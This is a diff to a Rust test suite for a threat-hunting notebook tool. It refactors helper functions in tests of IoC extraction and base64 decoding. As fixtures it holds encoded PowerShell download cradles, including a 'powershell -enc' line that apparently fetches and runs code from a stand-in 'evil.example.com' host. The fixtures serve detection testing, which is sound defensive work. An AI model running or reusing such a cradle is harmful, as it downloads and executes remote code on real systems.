@@ -3,23 +3,7 @@
 
 use huntbook_magics::Interpreter;
 
-use crate::common::{PROCS, data, fails, loaded};
-
-/// Runs `code` and expects it to succeed; returns the result's text/plain.
-fn ok(interp: &mut Interpreter, code: &str) -> String {
-    crate::common::ok(interp, code)
-        .result
-        .map(|r| r.plain().to_string())
-        .unwrap_or_default()
-}
-
-fn height(interp: &Interpreter, name: &str) -> usize {
-    interp
-        .session()
-        .get(name)
-        .unwrap_or_else(|| panic!("no frame {name}"))
-        .height()
-}
+use crate::common::{PROCS, data, fails, height, loaded, ok_text};
 
 /// msticpy's own IoC test strings: every case finds the type it is named after (or, for
 /// defanged cases, exactly what msticpy's test expects), through `%ioc` as an analyst runs it.
@@ -43,7 +27,7 @@ fn ioc_finds_what_msticpy_tests_expect() {
             (None, "url2") => ("url".to_string(), true),
             (None, id) => (id.to_string(), true),
         };
-        ok(&mut interp, &format!("%%ioc --include-paths\n{input}"));
+        ok_text(&mut interp, &format!("%%ioc --include-paths\n{input}"));
         let found = interp.session().get("_").unwrap();
         let kinds: Vec<String> = found
             .data
@@ -67,7 +51,7 @@ fn ioc_finds_what_msticpy_tests_expect() {
 #[test]
 fn ioc_over_frame_columns_keeps_row_and_column() {
     let mut interp = loaded(&[PROCS]);
-    ok(
+    ok_text(
         &mut interp,
         "iocs = %ioc procs.CommandLine,NewProcessName --include-paths",
     );
@@ -91,7 +75,7 @@ fn ioc_over_frame_columns_keeps_row_and_column() {
         ["CommandLine", "NewProcessName"]
     );
     // Text, defanged output, errors.
-    let text = ok(
+    let text = ok_text(
         &mut interp,
         "%ioc --defang --types url 'see hxxp://evil[.]example[.]com/x'",
     );
@@ -101,7 +85,7 @@ fn ioc_over_frame_columns_keeps_row_and_column() {
     fails(&mut interp, "%ioc procs.NoSuchColumn", "no-such-column");
     fails(&mut interp, "%ioc --defang --refang x", "conflicting-options");
     fails(&mut interp, "%ioc two words", "unexpected-argument");
-    ok(&mut interp, r"%ioc --custom ticket=TKT-(\d+) 'see TKT-4411'");
+    ok_text(&mut interp, r"%ioc --custom ticket=TKT-(\d+) 'see TKT-4411'");
     let custom = interp.session().get("_").unwrap();
     assert_eq!(
         custom.data.column("Observable").unwrap().str().unwrap().get(0),
@@ -113,7 +97,7 @@ fn ioc_over_frame_columns_keeps_row_and_column() {
 fn b64_decodes_columns_and_pasted_text() {
     let mut interp = Interpreter::default();
     // The help example: a gzip payload holding a PowerShell download cradle.
-    ok(
+    ok_text(
         &mut interp,
         "dec = %%b64\nH4sIAAAAAAAC/yvIL08tKs5IzclR0E1WyEyt0MgsL1LIKCkpsNLXTy3LzNFLrUjMLchJ1UvOz9Wv0AQAzmQwMjAAAAA=",
     );
@@ -133,15 +117,15 @@ fn b64_decodes_columns_and_pasted_text() {
         "CommandLine\n\"powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQAuAGMAbwBtAC8AeAApAA==\"\nnotepad.exe\n",
     )
     .unwrap();
-    ok(&mut interp, &format!("procs = %load {}", csv.display()));
-    ok(&mut interp, "dec = %b64 procs.CommandLine");
+    ok_text(&mut interp, &format!("procs = %load {}", csv.display()));
+    ok_text(&mut interp, "dec = %b64 procs.CommandLine");
     let dec = interp.session().get("dec").unwrap();
     assert_eq!(dec.height(), 1);
     assert_eq!(
         dec.data.column("Encoding").unwrap().str().unwrap().get(0),
         Some("utf-16")
     );
-    ok(&mut interp, "iocs = %ioc dec.FullDecodedString");
+    ok_text(&mut interp, "iocs = %ioc dec.FullDecodedString");
     let iocs = interp.session().get("iocs").unwrap();
     let observables: Vec<_> = iocs
         .data
@@ -184,14 +168,14 @@ fn one_resolver_decides_text_or_column_for_every_magic() {
     let e = fails(&mut interp, "%ioc procs.CommandLin", "no-such-column");
     assert!(e.contains("did you mean procs.CommandLine?"), "{e}");
     // Values with a dot stay values.
-    assert!(ok(&mut interp, "%domain evil.com").contains("evil.com"));
-    assert!(ok(&mut interp, "%domain EVIL.CO.UK").contains("evil.co.uk"));
-    assert_eq!(ok(&mut interp, "%iptype 10.1.2.3"), "Private");
+    assert!(ok_text(&mut interp, "%domain evil.com").contains("evil.com"));
+    assert!(ok_text(&mut interp, "%domain EVIL.CO.UK").contains("evil.co.uk"));
+    assert_eq!(ok_text(&mut interp, "%iptype 10.1.2.3"), "Private");
     // Quoted, a column reference is text.
-    let text = ok(&mut interp, "%ioc 'nosuch.Column'");
+    let text = ok_text(&mut interp, "%ioc 'nosuch.Column'");
     assert!(text.starts_with("0 rows"), "{text}");
     // Several columns and whole frames where the magic takes them.
-    ok(&mut interp, "iocs = %ioc procs.CommandLine,NewProcessName");
-    ok(&mut interp, "all = %ioc procs");
+    ok_text(&mut interp, "iocs = %ioc procs.CommandLine,NewProcessName");
+    ok_text(&mut interp, "all = %ioc procs");
     assert!(height(&interp, "all") >= height(&interp, "iocs"));
 }
